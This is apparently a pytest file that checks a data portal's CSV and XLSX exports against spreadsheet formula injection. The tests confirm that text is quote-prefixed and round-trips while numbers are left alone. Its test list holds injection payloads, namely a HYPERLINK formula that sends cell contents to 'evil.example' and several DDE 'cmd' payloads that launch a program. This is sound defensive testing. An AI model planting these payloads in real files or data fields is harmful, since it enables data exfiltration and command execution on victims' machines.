"""Every CSV and XLSX we write is formula-safe (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from data.cells import csv_cell, csv_uncell
from data.release import formats as rf
from data.schema.tables import TABLES
from portal.components.downloads import build_csv, build_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_a_quote_and_comes_back(text):
    cell = csv_cell(text)
    assert cell.startswith("'")
    assert csv_uncell(cell) == text


@pytest.mark.parametrize("value", [-5, -2.5, "-5", "-0.25", "+3", "1e-3", 0])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) == (repr(value) if isinstance(value, float) else str(value))


def test_plain_text_is_untouched():
    for text in ("上海世纪新元", "a=b", "it's", "'quoted", "95555"):
        assert csv_cell(text) == text and csv_uncell(text) == text


def _rows():
    return [
        {"id": f"ctr_{i}", "name": text, "city": "上海", "seats": -1 if i == 0 else 10 * i}
        for i, text in enumerate(ATTACKS)
    ]


def test_release_csv_is_safe_and_round_trips(tmp_path):
    spec = TABLES["centers"]
    path = tmp_path / "centers.csv"
    rf.write_csv(spec, _rows(), path)
    with path.open(encoding="utf-8", newline="") as fh:
        names = [r["name"] for r in csv.DictReader(fh)]
    assert all(n.startswith("'") for n in names)
    back = rf.read_csv(rf.field_types(spec), path)
    assert [r["name"] for r in back] == ATTACKS
    assert back[0]["seats"] == -1  # a negative number is still a number


def test_release_xlsx_stores_text_never_formulas(tmp_path):
    spec = TABLES["centers"]
    path = tmp_path / "centers.xlsx"
    rf.write_xlsx(spec, _rows(), path, "2024-01-01T00:00:00Z")
    ws = load_workbook(path)["data"]
    name_col = [c.value for c in ws[1]].index("name") + 1
    cells = [ws.cell(row=i + 2, column=name_col) for i in range(len(ATTACKS))]
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS)
    assert [c.value for c in cells] == ATTACKS
    assert rf.read_xlsx(rf.field_types(spec), path)[0]["name"] == ATTACKS[0]


def test_page_downloads_are_safe():
    frame = pd.DataFrame(_rows())
    frame["sources"] = "=1+2"
    text = build_csv(frame).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert all(r["name"].startswith("'") for r in rows)
    assert all(r["sources"] == "'=1+2" for r in rows)
    assert rows[0]["seats"] == "-1"
    wb = load_workbook(io.BytesIO(build_xlsx(frame, "centers", "2024-01-01T00:00:00Z")))
    assert not [c for row in wb["data"].iter_rows() for c in row if c.data_type == "f"]


def test_templates_and_dictionary_hold_no_formula(tmp_path):
    from data.imports.templates import write_template

    path = write_template("centers", tmp_path / "t.xlsx")
    wb = load_workbook(path)
    assert not [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
